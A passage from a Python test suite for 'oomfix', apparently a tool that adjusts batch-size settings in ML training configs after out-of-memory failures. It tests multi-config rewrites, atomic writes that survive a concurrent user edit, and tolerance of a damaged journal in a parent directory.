        p.write_text(p.read_text().replace("per_device_train_batch_size: 1", "per_device_train_batch_size: 2")
                     .replace("gradient_accumulation_steps: 16", "gradient_accumulation_steps: 8"))
    r = oomfix(["apply", "logs/job_a.log", "--all-configs", "--write"], project)
    assert r.returncode == 0, r.stderr
    after = ds.read_text()
    assert after == text.replace('"train_micro_batch_size_per_gpu": 2,', '"train_micro_batch_size_per_gpu": 1,') \
        .replace('"gradient_accumulation_steps": 8,', '"gradient_accumulation_steps": 16,'), after


# --- a change made to a config while oomfix writes it -------------------------------------------------------------

def test_lostwrite_append_during_write_is_not_lost(tmp_path: Path) -> None:
    """A line appended to the config between the first check and the rename: the write aborts, the append stays,
    nothing is half-written (run in a subprocess: the append is injected at the temp file's fsync)."""
    script = tmp_path / "race.py"
    script.write_text(f"""
import os, sys
sys.path.insert(0, {str(ROOT)!r})
from oomfix import journal
from oomfix.errors import JournalError
os.chdir({str(tmp_path)!r})
open("a.yaml", "w").write("per_device_train_batch_size: 2\\n")
open("b.yaml", "w").write("per_device_train_batch_size: 2\\n")
real = os.fsync
hit = []
def fsync(fd):
    real(fd)
    name = os.readlink(f"/proc/self/fd/{{fd}}")
    if name.endswith(".tmp") and "b.yaml" not in hit and os.path.dirname(name) == os.getcwd() and len(hit) == 1:
        open("b.yaml", "a").write("# appended by the user during the write\\n")
        hit.append("b.yaml")
    elif name.endswith(".tmp") and os.path.dirname(name) == os.getcwd() and not hit:
        hit.append("a")
journal.os.fsync = fsync
j = journal.Journal(".")
w = [journal.PlannedWrite("a.yaml", b"per_device_train_batch_size: 2\\n", b"per_device_train_batch_size: 1\\n"),
     journal.PlannedWrite("b.yaml", b"per_device_train_batch_size: 2\\n", b"per_device_train_batch_size: 1\\n")]
try:
    with j.lock():
        j.write(w, log=None, log_sha=None, rule="r", cls="cuda_oom")
    print("WROTE")
except JournalError as e:
    print("REFUSED", e)
print(repr(open("a.yaml").read()), repr(open("b.yaml").read()))
""")
    r = subprocess.run([sys.executable, str(script)], capture_output=True, timeout=TIME_LIMIT)
    out = r.stdout.decode()
    assert r.returncode == 0, r.stderr
    assert "REFUSED" in out and "changed on disk" in out, out
    assert "'per_device_train_batch_size: 2\\n'" in out  # a.yaml rolled back
    assert "appended by the user" in out  # b.yaml keeps the user's line
    assert not list(tmp_path.glob(".oomfix-*.tmp"))


def test_journal_damaged_above_the_checked_tree_does_not_stop_check(tmp_path: Path, project: Path) -> None:
    # check also looks for journals in the log's ancestors (a journal committed at a repository root); one that is
    # damaged above the tree being checked is not this project's to report
    (tmp_path / ".oomfix").mkdir()
    (tmp_path / ".oomfix" / "journal.jsonl").write_text("null\n")
    r = oomfix(["check"], project)
    no_traceback(r)
    assert r.returncode == 1, r.stderr
